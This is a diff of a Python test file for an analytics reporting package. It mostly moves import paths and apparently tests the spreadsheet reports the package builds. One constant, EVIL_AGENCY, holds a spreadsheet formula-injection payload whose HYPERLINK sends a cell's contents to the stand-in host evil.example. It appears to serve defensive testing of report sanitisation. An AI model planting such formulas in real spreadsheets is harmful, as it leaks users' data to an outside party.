@@ -13,12 +13,12 @@ from fixtures import Builder, nip, store_of
 from openpyxl import load_workbook
 
 from analytics import metrics
-from analytics.demo import build_demo
-from analytics.filters import Filters
+from analytics.core.filters import Filters
+from analytics.demo.build import build_demo
 from analytics.metrics import extras
 from analytics.report import build_report, gather
 from analytics.report.workbook import tables
-from analytics.store import Store
+from analytics.store.db import Store
 
 NIP = re.compile(r"(?<!\d)\d{18}(?!\d)")
 EVIL_AGENCY = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
